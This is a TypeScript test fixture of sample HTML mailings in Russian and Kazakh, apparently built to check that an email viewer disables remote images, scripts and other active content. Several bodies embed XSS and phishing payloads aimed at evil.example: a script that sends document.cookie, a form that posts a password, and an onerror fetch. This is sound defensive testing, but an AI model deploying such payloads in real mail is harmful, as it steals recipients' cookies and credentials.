/** Mailings in HTML: remote images, scripts and other things that must do nothing when a letter is shown. */
import type { DemoLetter } from './letter.ts';

const mailing = (from: string, subject: string, text: string, html: string): DemoLetter => ({ from, subject, text, html });

export const mailings: readonly DemoLetter[] = [
  mailing(
    'Деловой вестник <news@delovoy-vestnik.example>',
    'Обзор изменений трудового законодательства',
    'Пять изменений, о которых должен знать кадровик.',
    '<html><body style="font-family:Arial"><img src="https://img.delovoy-vestnik.example/header.png" width="600" alt="Деловой вестник"><h1>Обзор изменений</h1><p>Пять изменений, о которых должен знать кадровик.</p><ol><li>Электронный трудовой договор</li><li>Учёт рабочего времени</li><li>Дистанционная работа</li><li>Сроки уведомлений</li><li>Архивное хранение</li></ol><img src="https://track.delovoy-vestnik.example/open.gif?u=7731" width="1" height="1"></body></html>',
  ),
  mailing(
    'Деловой вестник <news@delovoy-vestnik.example>',
    'Вебинар: номенклатура дел без ошибок',
    'Бесплатный вебинар в четверг в 15:00.',
    '<div style="background:url(https://img.delovoy-vestnik.example/bg.jpg)"><h2>Номенклатура дел без ошибок</h2><p>Бесплатный вебинар в четверг в&nbsp;15:00.</p><p><a href="https://webinar.delovoy-vestnik.example/reg?x=1" onclick="alert(document.cookie)">Зарегистрироваться</a></p><script>document.location="https://evil.example/?c="+document.cookie</script></div>',
  ),
  mailing(
    'Учебный центр «Білім» <kurs@bilim-centre.example>',
    'Курсы по электробезопасности: набор на следующий месяц',
    'Группы II–V, очно и дистанционно.',
    '<table border="1" cellpadding="6"><tr><th>Группа</th><th>Даты</th><th>Форма</th></tr><tr><td>II–III</td><td>05–07</td><td>очно</td></tr><tr><td>IV–V</td><td>12–15</td><td>дистанционно</td></tr></table><iframe src="https://bilim-centre.example/form" width="400" height="200"></iframe>',
  ),
  mailing(
    'Учебный центр «Білім» <kurs@bilim-centre.example>',
    'Мемлекеттік тілдегі іс жүргізу курсы',
    'Курс екі апта, кешкі уақытта.',
    '<p>Құрметті әріптестер!</p><p><b>Мемлекеттік тілдегі іс жүргізу</b> курсына шақырамыз. Курс екі апта, кешкі уақытта.</p><form action="https://evil.example/steal"><input name="password" type="password"><button>Жазылу</button></form>',
  ),
  mailing(
    'Гостиница «Дала» <booking@dala-hotel.example>',
    'Подтверждение брони для командированного',
    'Бронь подтверждена на двое суток.',
    '<p>Бронь <b>№ 5518</b> подтверждена на двое суток.</p><p><img src="https://dala-hotel.example/logo.svg" onerror="fetch(\'https://evil.example\')"> Заезд с 14:00.</p><a href="javascript:alert(1)">Отменить бронь</a>',
  ),
  mailing(
    'Справочная система <digest@sprav-system.example>',
    'Еженедельный дайджест документов',
    'Новые формы, образцы, разъяснения.',
    '<style>body{background:#fff}*{position:fixed}</style><h3>Еженедельный дайджест</h3><ul><li><a href="https://sprav-system.example/1">Образец приказа об учётной политике</a></li><li><a href="https://sprav-system.example/2">Журнал регистрации исходящих</a></li></ul><link rel="stylesheet" href="https://sprav-system.example/x.css"><object data="https://sprav-system.example/x.swf"></object>',
  ),
];
